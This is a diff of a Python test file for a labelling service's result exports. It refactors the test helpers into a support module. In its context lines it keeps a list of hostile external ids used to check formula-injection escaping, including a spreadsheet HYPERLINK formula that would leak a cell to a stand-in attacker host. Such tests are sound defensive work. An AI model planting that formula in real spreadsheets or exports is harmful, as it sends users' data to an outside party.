@@ -8,11 +8,8 @@ import json
 from typing import Any
 
 import pytest
-from sqlalchemy import select
 
-from crowd.extensions import db
-from crowd.persistence import Item, User
-from crowd.services.accounts import issue_token
+from tests.support import item_names, make_users
 
 RESULT_KEYS = {"external_id", "status", "label", "confidence", "source", "n_labels", "posterior"}
 PROVENANCE = {"external_id", "worker", "label", "created_at", "duration_ms",
@@ -21,14 +18,6 @@ FORMULA_STARTS = ("=", "+", "-", "@")
 # External ids a spreadsheet would run as formulas, and a harmless one.
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-3+4",
            "@SUM(A1:A9)", "plain"]
-
-
-def _users(app: Any, manager: Any, *names: str) -> list[tuple[int, Any]]:
-    with app.app_context():
-        accounts = [User(username=n, password_hash="!", role="worker") for n in names]
-        db.session.add_all(accounts)
-        db.session.commit()
-        return [(a.id, manager.as_(issue_token(db.session, a))) for a in accounts]
 
 
 @pytest.fixture
@@ -45,12 +34,10 @@ def labelled(app: Any, manager: Any, clock: Any) -> dict[str, Any]:
     items = [{"external_id": name, "data": {"text": name}} for name in HOSTILE]
     items.append({"external_id": "g0", "data": {"text": "gold"}, "gold_label": "+1"})
     assert manager.post(f"/projects/{pid}/items", items).status_code == 201
-    with app.app_context():
-        names = dict(db.session.execute(
-            select(Item.id, Item.external_id).where(Item.project_id == pid)).all())
+    names = item_names(app, pid)
     given = []
     for (wid, worker), (username, label) in zip(
-        _users(app, manager, "@alice", "-bob"), [("@alice", "+1"), ("-bob", "-1")]
+        make_users(app, manager, "@alice", "-bob"), [("@alice", "+1"), ("-bob", "-1")]
     ):
         for step in range(10):
             clock.advance(1)
@@ -208,7 +195,7 @@ def test_unknown_format_is_a_400(manager, make_project):
 def test_exports_of_an_unknown_project_are_404_and_need_a_manager(app, manager, labelled):
     assert manager.get("/projects/999999/results").status_code == 404
     assert manager.get("/projects/999999/labels").status_code == 404
-    (_, worker), = _users(app, manager, "carol")
+    (_, worker), = make_users(app, manager, "carol")
     assert worker.get(f"/projects/{labelled['id']}/results").status_code == 403
     assert worker.get(f"/projects/{labelled['id']}/labels").status_code == 403
 
